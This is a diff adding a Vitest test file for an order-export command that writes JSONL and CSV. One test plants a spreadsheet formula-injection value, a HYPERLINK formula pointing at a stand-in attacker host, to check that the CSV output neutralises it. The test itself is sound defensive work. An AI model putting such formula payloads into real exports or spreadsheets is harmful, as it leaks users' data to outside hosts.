@@ -1,0 +1,93 @@
+/** `npm run export -- --orders`. */
+import { readFile, stat } from 'node:fs/promises'
+import { afterAll, beforeAll, expect, it, vi } from 'vitest'
+import { createClient, type OrderSummary } from '../../client/src/index.ts'
+import { command } from '../../scripts/export.ts'
+import { aFolder, call, type Folder, pointStagingAt } from '../support/command.ts'
+import { aPerson, instance, query } from '../support/instance/instance.ts'
+
+const client = createClient({ url: instance.url, token: instance.token })
+const REMOTE = ['--remote', '--env', 'staging']
+
+let folder: Folder
+beforeAll(async () => {
+  folder = await aFolder()
+  await pointStagingAt(instance.url)
+})
+afterAll(() => folder.remove())
+
+/** Places orders for a person without a wallet. */
+async function placeOrders(buyerUserId: number, count: number, providerId: string | null = null) {
+  const buyerBillingData = { street: 'Road 1', postal: '0150', city: 'Oslo', country: 'NO' }
+  const order = { nftId: 3, listingId: 3, quantity: 2, buyerUserId, buyerBillingData, providerId }
+  const { orders } = await client.placeOrders({ body: Array.from({ length: count }, () => order) })
+  return orders.map(({ id }) => id)
+}
+
+/** Exports the orders of the last and the next minute, as if the next one had passed. */
+async function exportOrders(file: string, ...options: string[]) {
+  const now = Date.now()
+  const [from, to] = [now - 60_000, now + 60_000].map((time) => new Date(time).toISOString())
+  vi.useFakeTimers({ toFake: ['Date'], now: now + 121_000 })
+  const args = ['--orders', '--from', from ?? '', '--to', to ?? '', file, ...options, ...REMOTE]
+  try {
+    return await call(command, args, { MARKETPLACE_TOKEN: instance.token })
+  } finally {
+    vi.useRealTimers()
+  }
+}
+
+/** The lines of a file, of this buyer. */
+async function ordersIn(file: string, buyerId: number): Promise<OrderSummary[]> {
+  const lines = (await readFile(file, 'utf8')).split('\n').slice(0, -1)
+  const orders = lines.map((line): OrderSummary => JSON.parse(line))
+  return orders.filter((order) => order.buyerId === buyerId)
+}
+
+it('writes each order of the time once, while others are placed', async () => {
+  const buyerId = await aPerson()
+  const placed = [...(await placeOrders(buyerId, 100)), ...(await placeOrders(buyerId, 30))]
+  const [result] = await Promise.all([
+    exportOrders('orders.jsonl'),
+    placeOrders(await aPerson(), 50),
+    placeOrders(await aPerson(), 50),
+  ])
+  expect(result).toMatchObject({ errors: '', status: 0 })
+  expect(result.out).toMatch(/^Wrote \d+ orders to orders\.jsonl\.\n$/)
+  const orders = await ordersIn('orders.jsonl', buyerId)
+  expect(orders.map(({ id }) => id)).toEqual(placed.toReversed())
+  const listed = await client.listOrders({ buyerUserId: buyerId, fields: 'summary', limit: 100 })
+  expect(orders.slice(0, 100)).toEqual(listed.orders)
+  expect((await stat('orders.jsonl')).mode & 0o777).toBe(0o600)
+})
+
+it('writes CSV of which spreadsheets run nothing', async () => {
+  const buyerId = await aPerson()
+  const number = `=HYPERLINK("https://evil.test/?${buyerId}","a, b")`
+  const [id] = await placeOrders(buyerId, 1, number)
+  const custom = JSON.stringify({ note: '-1' })
+  await query('UPDATE orders SET custom = ? WHERE id = ?', custom, `${id}`)
+  await exportOrders('orders.csv', '--csv')
+  const [names = '', ...rows] = (await readFile('orders.csv', 'utf8')).split('\r\n')
+  const [order] = (await client.listOrders({ buyerUserId: buyerId, fields: 'summary' })).orders
+  expect(names.split(',').sort()).toEqual(Object.keys(order ?? {}).sort())
+  const cells = {
+    ...order,
+    providerId: `"'${number.replaceAll('"', '""')}"`,
+    custom: '"{""note"":""-1""}"',
+  }
+  const line = names.split(',').map((name) => cells[name as keyof OrderSummary] ?? '')
+  expect(rows).toContain(line.join())
+  expect(order).toMatchObject({ priceCents: 1000, totalPriceCents: 2000 })
+})
+
+it.each([
+  [['--orders', '--to', '2026-01-01'], '--from must be a day or a time in UTC'],
+  [['--orders', '--from', '2026-01-01', '--to', 'now'], '--to must be a day or a time in UTC'],
+  [['--orders', '--from', '2026-01-02', '--to', '2026-01-02'], '--from must be before --to.'],
+  [['--orders', '--from', '2026-01-02', '--to', '9999-01-01'], '--to must be a minute ago'],
+  [['--csv'], '--from, --to and --csv need --orders.'],
+])('refuses %j', async (args, sentence) => {
+  const { errors, status } = await call(command, [...args, 'orders.jsonl'])
+  expect({ errors, status }).toEqual({ errors: expect.stringContaining(sentence), status: 1 })
+})
